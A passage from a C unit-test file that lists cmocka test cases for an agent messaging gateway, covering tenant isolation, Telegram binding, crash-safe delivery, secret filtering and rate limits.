	const struct CMUnitTest tests[] = {
		T(a_message_of_the_page_reaches_the_agent_and_the_answer_comes_back),
		T(one_tenants_session_and_words_are_not_the_others),
		T(bad_texts_of_the_page_are_refused_with_words),
		T(a_message_to_a_sleeping_agent_wakes_it_and_waits),
		T(an_unconfirmed_update_comes_again_after_a_crash),
		T(a_second_poll_ends_the_first),
		T(telegram_binds_by_a_one_time_code_and_carries_both_ways),
		T(a_stranger_gets_one_polite_sentence_and_reaches_no_agent),
		T(a_chat_of_one_tenant_cannot_be_taken_by_another),
		T(an_unbound_address_gets_nothing_more_not_even_what_was_queued),
		T(the_messengers_answers_become_the_agents),
		T(a_message_whose_fate_is_unknown_after_a_crash_is_marked_and_never_sent_again),
		T(an_answer_that_got_lost_is_unknown_not_repeated),
		T(a_secret_in_the_text_is_stopped_and_the_owner_told),
		T(a_picture_is_stored_encrypted_and_only_its_tenant_gets_it),
		T(media_by_address_is_refused),
		T(a_voice_note_of_the_person_is_fetched_when_the_agent_asks),
		T(edits_and_deletes_reach_the_messenger_under_its_own_ids),
		T(an_agent_that_talks_without_end_is_slowed_down),
		T(only_a_few_large_bodies_are_held_at_once),
		T(what_waits_for_an_agent_has_a_limit_that_the_person_is_told),
		T(a_wrong_bot_token_is_told_to_the_operator),
		T(a_wrong_token_of_a_sandbox_is_refused_and_recorded),
		T(no_method_takes_a_foreign_chat_in_any_field_however_it_is_said),
		T(one_s_own_chat_passes_every_reader),
		T(nested_ids_are_refused_in_every_document),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
